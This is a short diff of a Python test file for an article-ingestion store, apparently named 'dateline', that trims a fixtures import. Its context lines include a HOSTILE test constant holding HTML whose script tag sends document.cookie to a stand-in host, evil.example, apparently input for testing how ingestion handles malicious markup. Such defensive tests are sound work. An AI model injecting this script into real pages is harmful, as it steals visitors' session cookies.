@@ -5,7 +5,7 @@ from dateline.store import ingest
 from dateline.store.ingest import DOCUMENT_COUNT, ingest_page
 from dateline.store.models import Article, Publisher, TermStat
 from tests.paths import DEMO
-from tests.store.fixtures import demo_articles, example_article, import_path  # noqa: F401
+from tests.store.fixtures import import_path
 
 HOSTILE = """<html><head><title>Council approves budget</title>
 <script>document.location='https://evil.example/?c='+document.cookie</script></head>
